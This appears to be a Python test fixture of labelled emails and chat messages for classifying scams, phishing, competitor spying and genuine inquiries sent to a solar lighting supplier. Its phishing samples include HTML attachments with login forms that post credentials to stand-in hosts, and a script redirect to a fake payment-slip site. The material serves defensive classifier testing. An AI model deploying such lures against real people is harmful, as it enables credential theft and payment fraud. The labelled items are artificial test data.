     date="2026-12-01 07:20:10", offset="+0000",
     **{"from": "Buchhaltung Solartech GmbH <buchhaltung@solartech-gmbh.de.com>"},
     subject="Änderung unserer Bankverbindung",
     body="""Sehr geehrte Damen und Herren,

bitte beachten Sie, dass sich unsere Bankverbindung geändert hat. Ab sofort bitten wir Sie, alle
Zahlungen ausschließlich auf das folgende Konto zu leisten. Das alte Konto wird nicht mehr genutzt.

IBAN: LT71 3250 0211 4455 7801
BIC: REVOLT21

Die offene Rechnung RE-2026-0933 über 14.320,00 EUR ist bis Freitag fällig.

Mit freundlichen Grüßen
Buchhaltung
""", class_="scam", lang="de", kind="bec-bank-change")

mail("x8-en-vps-esign-po.eml", provider="vps", client_ip="146.70.52.18", vps_host="mx.esign-docsroom.com",
     date="2026-12-01 01:55:33", offset="+0000",
     **{"from": "Docusign <dse@esign-docsroom.com>"},
     subject="Purchase Agreement PO#55120 - Please review and sign",
     body="""Hongyu Solar,

Your supplier agreement and Purchase Order PO#55120 have been sent for electronic signature.

REVIEW DOCUMENT: https://po-55120-sign.pages.dev/review

Please complete within 24 hours. You will need to sign in with your company email to view.

Docusign Electronic Signature Service
""", class_="phishing", lang="en", kind="esign-lure")

mail("x8-en-vps-qr-invoice.eml", provider="vps", client_ip="45.88.97.33", vps_host="mail.payables-center.net",
     date="2026-12-01 04:10:50", offset="+0000",
     **{"from": "Payables <payables@payables-center.net>"},
     subject="Invoice payment confirmation - action needed",
     body="""Hello,

Your invoice has been approved for payment. For security reasons the payment confirmation can only be
opened on a mobile device. Scan the QR code in the attached PDF and log in with your Microsoft 365
account to release the funds.

Accounts Payable
""", attach=[("Payment_Confirmation_QR.pdf", "application/pdf", PDF)],
     class_="phishing", lang="en", kind="qr-lure")

mail("x8-pt-vps-nota-fiscal.eml", provider="vps", client_ip="191.101.31.20", vps_host="smtp.nfe-emissor.com",
     date="2026-12-01 12:33:02", offset="-0300",
     **{"from": "NF-e Emissor <nfe@nfe-emissor.com>"},
     subject="Nota Fiscal Eletrônica nº 000.381.224 - pedido de compra",
     body="""Prezado fornecedor,

Segue a Nota Fiscal Eletrônica referente ao pedido de compra 88120. Para visualizar o DANFE e o XML,
baixe o arquivo no link abaixo:

https://nfe-emissor.com/download/NFe_000381224.zip

Atenciosamente,
Setor Fiscal
""", class_="phishing", lang="pt", kind="invoice-lure")

mail("x8-en-gmail-rfq-html-attach.eml", provider="gmail", date="2026-12-01 02:12:44", offset="+0000",
     **{"from": "Procurement Team <procurement.alrayan.qa@gmail.com>"},
     subject="RFQ-2026-1202 Solar Lighting Tender - Urgent",
     body="""Good day,

Please find attached our RFQ for the tender. Open the attached document and log in with your email to
view the quantities and specification, then submit your best price before 5 December.

Regards,
Procurement Team
""", attach=[("RFQ-2026-1202_Specifications.html", "text/html",
              "<html><body><form action='https://rfq-portal.top/login.php'><input name='email'>"
              "<input type='password' name='pass'></form></body></html>")],
     class_="phishing", lang="en", kind="rfq-html")

mail("x8-en-vps-sharepoint-po.eml", provider="vps", client_ip="193.29.13.77", vps_host="share.onedrive-files.org",
     date="2026-12-01 06:02:15", offset="+0000",
     **{"from": "Emma Clarke via SharePoint <no-reply@onedrive-files.org>"},
     subject="Emma Clarke shared \"Purchase Order - Dec 2026.xlsx\" with you",
     body="""Emma Clarke shared a file with you

Purchase Order - Dec 2026.xlsx

Here's the purchase order we discussed. Please check the quantities.

Open: https://onedrive-files.org/:x:/g/personal/PO-Dec-2026

Microsoft respects your privacy.
""", class_="phishing", lang="en", kind="shared-doc")

mail("x8-it-vps-ordine-iso.eml", provider="vps", client_ip="89.44.9.120", vps_host="mail.ferramenta-italsud.com",
     date="2026-12-01 08:14:30", offset="+0100",
     **{"from": "Ufficio Acquisti <acquisti@ferramenta-italsud.com>"},
     subject="Nuovo ordine d'acquisto n. 2026/1187",
     body="""Buongiorno,

in allegato il nostro nuovo ordine d'acquisto. Vi preghiamo di confermare prezzi e disponibilità entro
oggi.

Cordiali saluti
Ufficio Acquisti
""", attach=[("Ordine_2026-1187.img", "application/octet-stream", b"\x00" * 64)],
     class_="phishing", lang="it", kind="po-attachment")

mail("x8-tr-vps-siparis-rar.eml", provider="vps", client_ip="103.145.13.8", vps_host="mail.aktasdis-ticaret.com",
     date="2026-12-01 07:45:18", offset="+0300",
     **{"from": "Satınalma <satinalma@aktasdis-ticaret.com>"},
     subject="Yeni sipariş - teklif talebi",
     body="""Merhaba,

Ekteki sipariş listemizi inceleyip fiyat teklifinizi en kısa sürede iletmenizi rica ederiz.
Dosya şifresi: 2026

Saygılarımızla
Satınalma Departmanı
""", attach=[("Siparis_Listesi_2026.rar", "application/x-rar-compressed", b"Rar!\x1a\x07\x00" + b"\x00" * 40)],
     class_="phishing", lang="tr", kind="po-attachment")

mail("x8-en-gmail-credit-cards.eml", provider="gmail", date="2026-12-01 18:02:33", offset="+0000",
     **{"from": "Mike Anderson <mikeanderson7741@gmail.com>"},
     subject="Order",
     body="""Hello Sales,

I will like to order solar flood light for my new church project. Let me know the prices of what you
have and what credit card you accept for payment. I have a shipper who will pick up from you, he will
handle the shipping so I will pay you for the goods and his shipping charges.

Send me your full name and direct phone number.

Mike
""", class_="scam", lang="en", kind="card-order")

mail("x8-en-yahoo-consignment-funds.eml", provider="yahoo", yregion="ne1", date="2026-12-01 04:30:02", offset="+0000",
     **{"from": "Mrs. Grace Williams <gracewilliams.un2026@yahoo.com>"},
     subject="Your Compensation Payment",
     body="""Attention Beneficiary,

This is to inform you that your compensation fund of US$2,500,000.00 has been approved by the United
Nations Anti-Fraud Committee in favour of business owners affected by internet scams. Your ATM card is
ready for delivery. You are required to pay only the delivery and insurance fee of US$195 to the
courier company.

Reply with your full name, address and phone number.

Mrs. Grace Williams
""", class_="scam", lang="en", kind="advance-fee")

mail("x8-en-gmail-ai-spy-market-study.eml", provider="gmail", date="2026-12-01 13:15:27", offset="+0000",
     **{"from": "Olivia Bennett <olivia.bennett.insights@gmail.com>"},
     subject="Partnership exploration - solar lighting portfolio",
     body="""Dear Hongyu Solar Team,

I hope this message finds you well. I am reaching out on behalf of a leading international client who is
currently conducting a comprehensive evaluation of solar lighting manufacturers in the Asia-Pacific region
as part of its long-term strategic sourcing initiative.

To ensure a thorough and fair assessment, we would be grateful if you could kindly share the following:
- Your complete price list for all product lines, including tiered pricing
- A breakdown of your cost structure (LED, battery cells, panel, housing)
- The names of your key component suppliers and your major export customers
- Your production capacity and current order book

Please note that at this stage we are not in a position to discuss specific quantities, delivery terms
or payment arrangements, as the evaluation is still ongoing. All information will be treated with the
utmost confidentiality.

Thank you in advance for your cooperation. I look forward to your comprehensive response.

Warm regards,
Olivia Bennett
Strategic Sourcing Consultant
""", class_="spy", lang="en", kind="spy")

mail("x8-de-gmail-spy-preisliste.eml", provider="gmail", date="2026-12-01 09:05:50", offset="+0100",
     **{"from": "Frank Möller <frank.moeller.beratung@gmail.com>"},
     subject="Komplette Preisliste",
     body="""Guten Tag,

ich erstelle gerade eine Marktübersicht über Hersteller von Solarleuchten. Bitte senden Sie mir Ihre
komplette Preisliste für alle Modelle, Ihre Einkaufspreise für Akkus und Module und die Namen Ihrer
Lieferanten. Eine Bestellung ist derzeit nicht geplant.

Gruß
F. Möller
""", class_="spy", lang="de", kind="spy")

mail("x8-es-gmail-spy-exclusiva.eml", provider="gmail", date="2026-12-01 15:30:12", offset="-0500",
     **{"from": "Ricardo Salas <ricardo.salas.consultor@gmail.com>"},
     subject="Interés en distribución exclusiva",
     body="""Estimados,

Represento a un grupo interesado en la distribución exclusiva de sus productos en toda Latinoamérica.
Antes de hablar de volúmenes, necesitamos su lista de precios completa de todos los modelos, el costo
de fabricación de cada componente y quién les fabrica las baterías y los paneles. Por ahora no vamos a
hacer pedido; solo queremos comparar.

Saludos,
R. Salas
""", class_="spy", lang="es", kind="spy")

mail("x8-en-gmail-sample-fee-agent.eml", provider="gmail", date="2026-12-01 11:10:40", offset="+0000",
     **{"from": "Ahmed Bello <ahmedbello.importsltd@gmail.com>"},
     subject="Big order 3,000 units - samples",
     body="""Hello,

We are interested in 3,000 units of your solar street lights for a government project. Before we place
the order, please send 2 samples to our agent in Guangzhou. Our agent charges a sample handling and
testing fee of USD 180, which you should pay to him directly; he will refund it when the order is placed.
Contact our agent on WhatsApp +86 131 5550 8812.

Ahmed Bello
""", class_="scam", lang="en", kind="sample-fee-agent")

mail("x8-ru-mailru-vznos.eml", provider="mailru", client_ip="176.59.42.11",
     date="2026-12-01 10:50:02", offset="+0300",
     **{"from": "Отдел закупок <zakupki.energoresurs@mail.ru>"},
     subject="Тендер на поставку солнечных светильников",
     body="""Добрый день!

Ваша компания прошла предварительный отбор в тендере на поставку 1 500 солнечных светильников.
Для допуска к подписанию договора необходимо оплатить регистрационный взнос поставщика 45 000 рублей
на счёт нашего аккредитованного агента. После подписания договора взнос возвращается.

Реквизиты вышлем после вашего ответа.

С уважением, отдел закупок
""", class_="scam", lang="ru", kind="vendor-registration-fee")

mail("x8-ar-gmail-rusoom-munaqasa.eml", provider="gmail", date="2026-12-01 12:22:40", offset="+0300",
     **{"from": "إدارة المشتريات <purchasing.dept.sa2026@gmail.com>"},
     subject="مناقصة توريد إنارة شمسية",
     body="""السادة المحترمين،

تم اختيار شركتكم لتوريد 3000 كشاف شمسي لمشروع حكومي. لإتمام التعاقد يجب على شركتكم سداد رسوم
تسجيل المورد بقيمة 950 دولار لمكتب المحاماة المعتمد لدينا، وسيتم إرسال أمر الشراء فور السداد.

مع التحية
""", class_="scam", lang="ar", kind="vendor-registration-fee")

mail("x8-en-vps-alibaba-ta-hold.eml", provider="vps", client_ip="194.26.29.60", vps_host="mail.alibaba-tradecenter.net",
     date="2026-12-01 03:40:00", offset="+0000",
     **{"from": "Alibaba.com Trade Assurance <service@alibaba-tradecenter.net>"},
     subject="Trade Assurance order payment on hold - verify your account",
     body="""Dear Supplier,

A buyer has paid USD 18,600.00 for Trade Assurance order 2026120188321, but the payment is on hold
because your supplier account information is incomplete.

Verify your account within 24 hours to receive the funds:
https://alibaba-tradecenter.net/verify?order=2026120188321

Alibaba.com Service Team
""", class_="phishing", lang="en", kind="fake-platform")

mail("x8-en-vps-mailbox-storage.eml", provider="vps", client_ip="80.94.95.12", vps_host="mail.webmail-quota.info",
     date="2026-12-01 00:55:12", offset="+0000",
     **{"from": "IT Helpdesk <helpdesk@webmail-quota.info>"},
     subject="sales@hongyu-solar.example: storage 99% full",
     body="""Your mailbox storage is 99% full. Incoming messages are now being held and will be deleted.

Increase your storage for free: https://webmail-quota.info/upgrade?u=sales@hongyu-solar.example

IT Helpdesk
""", class_="phishing", lang="en", kind="mailbox-quota")

mail("x8-ja-vps-account-lock.eml", provider="vps", client_ip="45.14.71.9", vps_host="mail.amaz0n-jp-support.com",
     date="2026-12-01 01:20:00", offset="+0900",
     **{"from": "Amazon.co.jp <account@amaz0n-jp-support.com>"},
     subject="【重要】お客様のアカウントは一時停止されました",
     body="""お客様のアカウントで異常なログインが検出されたため、アカウントを一時停止しました。
24時間以内に以下のリンクからお支払い情報を更新してください。更新がない場合、アカウントは削除されます。

https://amaz0n-jp-support.com/verify

Amazon.co.jp カスタマーサービス
""", class_="phishing", lang="ja", kind="account-lock")

mail("x8-en-gmail-cheque-overpay.eml", provider="gmail", date="2026-12-01 19:22:10", offset="+0000",
     **{"from": "Robert Hayes <roberthayes.supply@gmail.com>"},
     subject="Payment sent for 40 units",
     body="""Hello,

I have mailed a certified cheque of USD 9,800 for the 40 solar flood lights. The cheque also covers
the freight, so when it clears please wire the extra USD 4,100 to my shipping company so they can
come pick up the goods. I will send you their bank details.

Regards,
Robert
""", class_="scam", lang="en", kind="overpayment")

mail("x8-en-gmail-crypto-bot.eml", provider="gmail", date="2026-12-01 08:00:40", offset="+0000",
     **{"from": "Sophia Lee <sophia.lee.capital88@gmail.com>"},
     subject="Business cooperation proposal",
     body="""Hi dear,

I'm Sophia, an investment manager in Singapore. Our AI quantitative trading platform earns 3-5% daily
on USDT. Many Chinese factory owners are using it to grow their working capital. Minimum deposit is only
500 USDT and you can withdraw anytime. Add my WhatsApp +65 8555 2041 and I will guide you step by step.

Sophia
""", class_="scam", lang="en", kind="crypto-investment")

mail("x8-en-gmail-insurance-bond.eml", provider="gmail", date="2026-12-01 14:44:03", offset="+0100",
     **{"from": "Daniel Osei <danielosei.logistics.ltd@gmail.com>"},
     subject="Order confirmation 600 pcs - shipping",
     body="""Dear Lin,

We confirm 600 pcs of the 60W street light. Our shipping line requires the supplier to pay a cargo
insurance bond of USD 650 before they issue the booking. It is refundable upon delivery of the goods in
Accra. Please pay it to the shipping line account I will send, then we pay the 100% to you immediately.

Daniel
""", class_="scam", lang="en", kind="seller-pays-fee")

mail("x8-pl-vps-faktura-link.eml", provider="vps", client_ip="5.181.80.14", vps_host="mail.efaktury-online.eu",
     date="2026-12-01 08:40:12", offset="+0100",
     **{"from": "eFaktura <powiadomienia@efaktury-online.eu>"},
     subject="Nowa faktura FV/2026/12/0441 do zapłaty",
     body="""Dzień dobry,

w systemie została wystawiona faktura FV/2026/12/0441 na kwotę 8 460,00 PLN. Termin płatności: 3 dni.
Fakturę można pobrać po zalogowaniu: https://efaktury-online.eu/login?doc=0441

Pozdrawiamy
""", class_="phishing", lang="pl", kind="invoice-lure")

mail("x8-id-gmail-biaya-inspeksi.eml", provider="gmail", date="2026-12-01 10:40:30", offset="+0700",
     **{"from": "Hendra Wijaya <hendrawijaya.proyek88@gmail.com>"},
     subject="Order 2.000 unit lampu PJU",
     body="""Selamat siang,

Kami akan order 2.000 unit lampu PJU 100W untuk proyek pemerintah. Sebelum PO, pabrik Anda harus bayar
biaya inspeksi Rp 12.500.000 ke agen inspeksi kami di Jakarta. Biaya akan dikembalikan setelah
pembayaran pertama.

Hendra
""", class_="scam", lang="id", kind="seller-pays-fee")

mail("x8-ko-vps-rfq-htm.eml", provider="vps", client_ip="121.127.45.18", vps_host="mail.daehan-trading.kr.com",
     date="2026-12-01 09:12:10", offset="+0900",
     **{"from": "구매팀 <purchase@daehan-trading.kr.com>"},
     subject="견적 요청서 (RFQ) - 긴급",
     body="""안녕하세요,

첨부된 견적 요청서를 확인하시고 이메일 계정으로 로그인하여 수량과 사양을 확인해 주세요.
오늘 중으로 회신 부탁드립니다.

구매팀
""", attach=[("견적요청서_RFQ.htm", "text/html",
              "<html><body><form action='https://daehan-rfq.xyz/l.php'><input name='id'><input type='password'></form></body></html>")],
     class_="phishing", lang="ko", kind="rfq-html")

mail("x8-en-vps-ceo-fraud.eml", provider="vps", client_ip="102.89.33.70", vps_host="mail.hongyu-solar-hk.com",
     date="2026-12-01 02:10:00", offset="+0000",
     **{"from": "Chen Hong <ceo@hongyu-solar-hk.com>"},
     subject="Urgent and confidential",
     body="""Lin,

Are you at your desk? I am in a meeting with a new customer and cannot talk. I need you to process an
urgent payment to a supplier today. Reply to this email only, do not call me. I will send the details.

Chen Hong
Sent from my iPhone
""", class_="scam", lang="en", kind="ceo-fraud")

mail("x8-en-gmail-whatsapp-only.eml", provider="gmail", date="2026-12-01 20:15:18", offset="+0000",
     **{"from": "Kelvin Brown <kelvinbrown2241@gmail.com>"},
     subject="Inquiry",
     body="""Hello,

I am interested in your product and want to make a big order. Email is not secure, please contact me on
WhatsApp +1 (209) 555-0176 so we can discuss the details.

Kelvin
""", class_="scam", lang="en", kind="move-to-chat")

mail("x8-pt-gmail-taxa-despachante.eml", provider="gmail", date="2026-12-01 15:18:40", offset="-0300",
     **{"from": "Fernando Lima <fernandolima.comercio2026@gmail.com>"},
     subject="Pedido 1.200 luminárias - liberação",
     body="""Bom dia,

Vamos fechar 1.200 luminárias solares de 100 W. Para liberar a importação, o fornecedor precisa pagar
a taxa de licença de importação de R$ 3.800 ao nosso despachante aduaneiro. O valor será abatido no
pagamento do pedido.

Fernando Lima
""", class_="scam", lang="pt", kind="seller-pays-fee")

mail("x8-zh-gmail-spy-competitor.eml", provider="gmail", date="2026-12-01 16:02:12", offset="+0800",
     **{"from": "李先生 <li.market.research@gmail.com>"},
     subject="想了解贵司全部产品价格",
     body="""您好，

我们在做太阳能灯行业的市场调研，麻烦发一份贵司所有型号的完整价格表和成本构成，另外想知道贵司电池和
太阳能板是哪家供应的，主要客户是哪些。目前暂时没有采购计划，先了解一下。

谢谢
""", class_="spy", lang="zh", kind="spy")

mail("x8-fr-vps-docusign-fr.eml", provider="vps", client_ip="141.98.10.40", vps_host="mail.signature-docs.fr.com",
     date="2026-12-01 06:33:50", offset="+0100",
     **{"from": "Service de signature <signature@signature-docs.fr.com>"},
     subject="Contrat fournisseur en attente de votre signature",
     body="""Bonjour,

Un contrat fournisseur vous a été envoyé pour signature électronique. Merci de le consulter et de le
signer avant ce soir.

Consulter le document : https://contrat-fournisseur.web.app/signer

Connectez-vous avec votre adresse e-mail professionnelle pour accéder au document.
""", class_="phishing", lang="fr", kind="esign-lure")

mail("x8-en-gmail-logistics-customs-buyer.eml", provider="gmail", date="2026-12-01 13:52:21", offset="+0400",
     **{"from": "Omar Farouk <omarfarouk.generaltrading@gmail.com>"},
     subject="Payment done - clearance charges",
     body="""Dear Supplier,

I have made the full payment for 800 flood lights; my bank will release it once the shipment is cleared.
The customs clearance and anti-dumping certificate in Dubai costs USD 1,150 and must be paid by the
exporter to our clearing agent before the goods can be released. Kindly pay and send the receipt.

Omar
""", class_="scam", lang="en", kind="seller-pays-fee")

# --- "eighth-fresh": written after the fixes the part led to, scored unseen -----------------------------------

mail("f8-en-gmail-ectn-office.eml", provider="gmail", date="2026-12-02 10:14:30", offset="+0100",
     **{"from": "Victor Adeyemi <victor.adeyemi.shipping@gmail.com>"},
     subject="Shipment 420 street lights - ECTN",
     body="""Dear Lin,

Thanks for the PI. For the 420 street lights to Lagos, the Nigerian port needs an ECTN cargo tracking
certificate before loading. The shipper must obtain it through our clearing office in Lagos, cost EUR 320.
Once you send it, we release the 70% balance the same day.

Victor
""", class_="scam", lang="en", kind="seller-pays-fee", part="eighth-fresh")

mail("f8-es-vps-cambio-banco.eml", provider="vps", client_ip="185.246.84.19", vps_host="mail.iluminacion-andina.com.co",
     date="2026-12-02 08:40:10", offset="-0500",
     **{"from": "Tesorería <tesoreria@iluminacion-andina.com.co>"},
     subject="Actualización de datos bancarios - factura pendiente",
     body="""Buenos días,

Les informamos que hemos cambiado de entidad bancaria. Por favor realicen el pago de la factura FA-2231
(USD 6.480) a nuestra nueva cuenta en el Banco Santander Portugal, IBAN PT50 0018 0003 5512 7781 0201 9.
Los pagos a la cuenta anterior serán devueltos.

Saludos,
Tesorería
""", class_="scam", lang="es", kind="bec-bank-change", part="eighth-fresh")

mail("f8-en-vps-swift-copy.eml", provider="vps", client_ip="103.151.20.44", vps_host="mail.gulf-tradinghub.com",
     date="2026-12-02 03:22:08", offset="+0000",
     **{"from": "Finance Dept <finance@gulf-tradinghub.com>"},
     subject="TT Payment Slip - SWIFT copy",
     body="""Dear Sir,

Kindly find attached the swift copy for the advance payment of our order. Confirm receipt.

Best regards
Finance Dept
""", attach=[("SWIFT_Copy_MT103.pdf.html", "text/html",
              "<html><body><script>location='https://mt103-view.online/?e='+btoa(1)</script></body></html>")],
     class_="phishing", lang="en", kind="payment-slip-html", part="eighth-fresh")

mail("f8-fr-gmail-espion-etude.eml", provider="gmail", date="2026-12-02 11:05:40", offset="+0100",
     **{"from": "Julien Marchand <julien.marchand.etudes@gmail.com>"},
     subject="Étude de marché éclairage solaire",
     body="""Bonjour,

Je réalise une étude comparative des fabricants chinois d'éclairage solaire. Pourriez-vous m'envoyer votre
tarif complet, vos prix de revient par modèle et les noms de vos fournisseurs de cellules lithium ?
Aucune commande n'est prévue à ce stade.

Merci d'avance,
J. Marchand
""", class_="spy", lang="fr", kind="spy", part="eighth-fresh")

mail("f8-en-ca-outlook-forwarder.eml", provider="outlook", region="namprd", accept_lang="en-CA",
     date="2026-12-02 09:30:15", offset="-0500",
     **{"from": "Nathan Tremblay <nathan.tremblay.solar@outlook.com>"},
     subject="250 x 100W flood lights - our forwarder",
     body="""Hi Lin,

Please go ahead with 250 pcs HY-FL100, FOB Shenzhen. Our forwarder Kuehne+Nagel will contact you for the
booking; the booking and THC at destination are our cost. Deposit 30% goes out tomorrow by wire.

Thanks,
Nathan Tremblay
Northern Solar Supply, Toronto | 416-555-0193
""", class_="genuine", lang="en", kind="inquiry", signals="full", part="eighth-fresh")

mail("f8-de-gmx-haendler-preisliste.eml", provider="gmx", client_ip="91.12.80.144",
     date="2026-12-02 08:12:50", offset="+0100",
     **{"from": "Stefan Gruber <s.gruber.solar@gmx.de>"},
     subject="Händlerpreisliste Solarleuchten",
     body="""Guten Tag,

wir sind ein Solarfachhandel in Freiburg mit zwei Filialen und einem Jahresbedarf von ca. 800 Leuchten.
Bitte senden Sie uns Ihre Händlerpreisliste mit Staffelpreisen und die Lieferzeit nach Hamburg (CIF).

Mit freundlichen Grüßen
Stefan Gruber
Gruber Solartechnik GmbH, Tel. 0761 555 2044
""", class_="genuine", lang="de", kind="inquiry", signals="full", part="eighth-fresh")

mail("f8-ko-naver-short.eml", provider="naver", client_ip="211.246.68.12",
     date="2026-12-02 13:40:05", offset="+0900",
     **{"from": "이민수 <minsu.lee.led@naver.com>"},
     subject="투광등 가격 문의",
     body="""태양광 투광등 100W 40개 가격 알려주세요. 인천항 도착 기준입니다.
""", class_="genuine", lang="ko", kind="inquiry", part="eighth-fresh")

mail("f8-en-in-gmail-sample-deduct.eml", provider="gmail", date="2026-12-02 12:15:33", offset="+0530",
     **{"from": "Anil Sharma <anil.sharma.greenlights@gmail.com>"},
     subject="Sample 40W + order 100 pcs",
     body="""Dear Ms Lin,

We will pay the sample cost of USD 60 by PayPal today. If the order of 100 pcs (CIF Nhava Sheva) is
confirmed, please deduct the sample charge from the first invoice. Our agent in Zhongshan will collect
the sample from your factory.

Regards,
Anil Sharma
Green Lights India Pvt Ltd | +91 98201 55743
""", class_="genuine", lang="en", kind="inquiry", signals="full", part="eighth-fresh")

# make_eighth.py reads "class_" (a Python keyword cannot be a keyword argument)
for _m in MAILS.values():
    _m["class"] = _m.pop("class_")


def _c(i: str, channel: str, at: str, name: str, body: str, cls: str, lang: str, kind: str, **extra) -> dict:
    return {"id": i, "channel": channel, "received_at": at, "name": name, **extra, "class": cls, "lang": lang,
            "kind": kind, "body": body}


CHATS: list[dict] = [
    # genuine
    _c("c8-en-01", "whatsapp", "2026-12-01T10:05:00+08:00", "Joseph", "how much for 100W solar flood light, 50 pcs to Kampala?",
       "genuine", "en", "inquiry", phone="+256 772 555 901", country="UG"),
    _c("c8-es-01", "whatsapp", "2026-12-01T11:20:00+08:00", "Luis", "Hola, precio de la lámpara solar 60W? necesito 80 para Lima",
       "genuine", "es", "inquiry", phone="+51 987 555 210", country="PE"),
    _c("c8-fr-01", "im", "2026-12-01T12:02:00+08:00", "Aminata", "Bonsoir, vous avez le lampadaire 100W en stock ? 40 pièces pour Dakar",
       "genuine", "fr", "inquiry"),
    _c("c8-pt-01", "whatsapp", "2026-12-01T13:10:00+08:00", "Bruno", "bom dia, qual o prazo de entrega do refletor 200W? 60 peças pra Santos",
       "genuine", "pt", "inquiry", phone="+55 21 95555 3301", country="BR"),
    _c("c8-ru-01", "im", "2026-12-01T14:00:00+08:00", "Сергей", "Добрый день, есть сертификат EAC на светильник 60 Вт? Нужно 200 штук в Алматы",
       "genuine", "ru", "inquiry"),
    _c("c8-ar-01", "whatsapp", "2026-12-01T15:12:00+08:00", "Ali", "السلام عليكم، أحتاج 100 كشاف شمسي 200 واط إلى ميناء عدن، ما السعر؟",
       "genuine", "ar", "inquiry", phone="+967 77 555 2130", country="YE"),
    _c("c8-de-01", "message", "2026-12-01T16:20:00+08:00", "Jana", "Guten Tag, können Sie mir die Preisliste für Solar-Gartenleuchten schicken? Wir sind ein Gartencenter in Graz.",
       "genuine", "de", "inquiry"),
    _c("c8-id-01", "whatsapp", "2026-12-01T17:05:00+08:00", "Rina", "kak, lampu taman solar 10W ready stock? butuh 150 pcs kirim Bali",
       "genuine", "id", "inquiry", phone="+62 812 5550 8833", country="ID"),
    _c("c8-tr-01", "im", "2026-12-01T17:40:00+08:00", "Emre", "Merhaba, 60W sokak lambası için numune alabilir miyiz? Kargo ücretini biz öderiz.",
       "genuine", "tr", "inquiry"),
    _c("c8-en-02", "whatsapp", "2026-12-01T18:00:00+08:00", "Priya", "our QC agent will inspect on Friday, we pay the inspection fee. pls confirm goods ready",
       "genuine", "en", "inquiry", phone="+91 98450 55127", country="IN"),
    # scam / phishing / spy
    _c("c8-x-01", "whatsapp", "2026-12-01T10:30:00+08:00", "Mr James", "hello i want to buy all your solar lights in stock, i pay with bitcoin, send wallet",
       "scam", "en", "crypto", phone="+44 7700 555 120"),
    _c("c8-x-02", "whatsapp", "2026-12-01T11:45:00+08:00", "Customs HK", "Your parcel is held at customs. Pay HKD 18 handling fee: https://hk-post-fee.top/p",
       "phishing", "en", "parcel-fee"),
    _c("c8-x-03", "im", "2026-12-01T12:40:00+08:00", "Kemal", "Büyük sipariş vereceğiz ama önce tedarikçi kayıt ücreti 300 USD ajansımıza ödemeniz gerekiyor",
       "scam", "tr", "vendor-registration-fee"),
    _c("c8-x-04", "message", "2026-12-01T13:30:00+08:00", "Laura", "Send me the full price list of every model and tell me who supplies your batteries. We are not buying now.",
       "spy", "en", "spy"),
    _c("c8-x-05", "whatsapp", "2026-12-01T14:25:00+08:00", "Pedro", "hola, pagué de más por error, devuélvame 800 USD a la cuenta de mi agente de carga",
       "scam", "es", "overpayment", phone="+34 611 555 204"),
    _c("c8-x-06", "whatsapp", "2026-12-01T15:40:00+08:00", "Jean", "Bonjour, pour recevoir la commande vous devez payer les frais de dédouanement de 450 euros à notre transitaire",
       "scam", "fr", "seller-pays-fee", phone="+33 7 55 55 21 40"),
    _c("c8-x-07", "im", "2026-12-01T16:10:00+08:00", "Alibaba Service", "Your store will be closed today. Verify your supplier account now: https://alibaba-verify-center.com",
       "phishing", "en", "fake-platform"),
    _c("c8-x-08", "whatsapp", "2026-12-01T16:50:00+08:00", "Андрей", "Здравствуйте, оплачу всю партию в USDT, пришлите адрес кошелька",
       "scam", "ru", "crypto", phone="+7 925 555 1120"),
    _c("c8-x-09", "whatsapp", "2026-12-01T17:15:00+08:00", "Ravi", "sir we give order 5000 pcs but first you pay 200 dollar sample fee to our agent, refund with order",
       "scam", "en", "sample-fee-agent", phone="+91 70000 55512"),
    _c("c8-x-10", "message", "2026-12-01T18:30:00+08:00", "Anna", "Hi, which credit cards do you accept? I want to order and my shipper will pick up",
       "scam", "en", "card-order"),
    # "eighth-fresh"
    _c("f8-c-01", "whatsapp", "2026-12-02T15:20:00+08:00", "Rogério",
       "Olá, quero comprar 2000 luminárias mas antes a sua empresa precisa pagar 180 dólares de taxa de amostra para o nosso agente, reembolsado no pedido",
       "scam", "pt", "sample-fee-agent", part="eighth-fresh", phone="+55 11 95555 7810"),
    _c("f8-c-02", "whatsapp", "2026-12-02T16:05:00+08:00", "عبدالله",
       "نحتاج 60 كشاف 300 واط، الشحن إلى ميناء الدمام، ووكيلنا في قوانغتشو سيستلم البضاعة",
       "genuine", "ar", "inquiry", part="eighth-fresh", phone="+966 50 555 3318", country="SA"),
]
